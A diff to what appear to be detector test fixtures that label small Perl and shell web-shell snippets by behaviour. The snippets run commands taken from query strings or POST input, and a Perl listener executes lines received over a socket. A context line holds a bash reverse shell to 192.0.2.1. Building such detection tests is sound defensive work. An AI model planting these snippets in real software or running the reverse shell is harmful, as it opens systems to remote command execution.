@@ -16,6 +16,11 @@ PERL = {
         ),
         "runs-request-command",
     ),
+    "default": (
+        'foreach (split(/&/, $ENV{QUERY_STRING})) { ($k, $v) = split(/=/); $in{$k} = $v } open(C, "$in{c}|");',
+        "runs-request-command",
+    ),
+    "listens": ("$s = IO::Socket::INET->new(1); $c = $s->accept(); while (<$c>) { print `$_`; }", "connects-back"),
     "shifted": ("use CGI; sub run { my $c = shift; return `$c`; } run(CGI->new->param('c'));", "runs-request-command"),
     "prototype": ("sub run($) { my ($c) = @_; system($c) } run($ENV{QUERY_STRING});", "runs-request-command"),
     "kept": ("use CGI; $s->{q} = CGI->new; my $c = $s->{q}->param('c'); exec $c;", "runs-request-command"),
@@ -51,6 +56,7 @@ PYTHON = {
 }
 SHELL = {
     "eval": ('a="$QUERY_STRING"\neval "$a"', "runs-request-command"),
+    "posted": ("echo Content-Type: text/plain\nread -n 9 P\neval $P", "runs-request-command"),
     "shown": ("cat $QUERY_STRING", "reads-request-file"),
     "back": ("bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "connects-back"),
 }
